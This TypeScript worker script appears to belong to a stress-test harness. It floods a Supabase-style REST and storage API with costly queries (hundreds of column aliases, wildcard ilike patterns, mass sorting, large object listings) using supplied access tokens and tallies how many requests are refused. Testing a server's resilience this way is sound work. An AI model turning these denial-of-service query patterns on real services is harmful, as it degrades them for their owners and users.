import { constants, setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';
import { sendAs } from './send-as.ts';

/** The input of this process: whom to attack as whom, and until when (Unix milliseconds). */
export interface Orders {
  readonly url: string;
  readonly accessTokens: readonly string[];
  readonly end: number;
}

/** How much it sent, and how much of that was refused. */
export interface Tally {
  sent: number;
  refused: number;
}

// The attackers would be elsewhere: their computing must not slow down the measured server.
setPriority(constants.priority.PRIORITY_LOW);

const { url, accessTokens, end } = await new Promise<Orders>((resolve) => {
  process.once('message', (orders: Orders) => resolve(orders));
});
const tally: Tally = { sent: 0, refused: 0 };

/** The attacks, each as what one account sends at once; the six searches of the second are sent one after the other. */
const WAVES: readonly (readonly (readonly [path: string, body?: string])[])[] = [
  [[`/rest/v1/gratitudes?select=${many(450, (index) => `c${index}:description`)}`]],
  ...Array.from({ length: 6 }, () => [
    ['/rest/v1/gratitudes?select=id&description=fts.zzz'] as const,
  ]),
  Array.from({ length: 24 }, () => [
    `/rest/v1/gratitudes?select=id&or=(${many(50, (index) => `description.ilike.*${'é'.repeat(16)}b${index}*`)})`,
  ]),
  Array.from({ length: 100 }, () => ['/rest/v1/gratitudes?select=id&order=description']),
  Array.from({ length: 16 }, () => [
    '/storage/v1/object/list/goal-photos',
    JSON.stringify({ prefix: '', limit: 1000 }),
  ]),
];

function many(count: number, one: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => one(index)).join(',');
}

async function attack(accessToken: string): Promise<void> {
  while (Date.now() < end) {
    for (const wave of WAVES) {
      if (Date.now() >= end) return;
      const statuses = await Promise.all(
        wave.map(([path, body]) => sendAs(url, accessToken, path, body)),
      );
      tally.sent += statuses.length;
      tally.refused += statuses.filter((status) => status !== 200).length;
      if (statuses.every((status) => status !== 200)) await pause(50);
    }
  }
}

await Promise.all(accessTokens.map(attack));
process.send?.(tally);
process.disconnect();
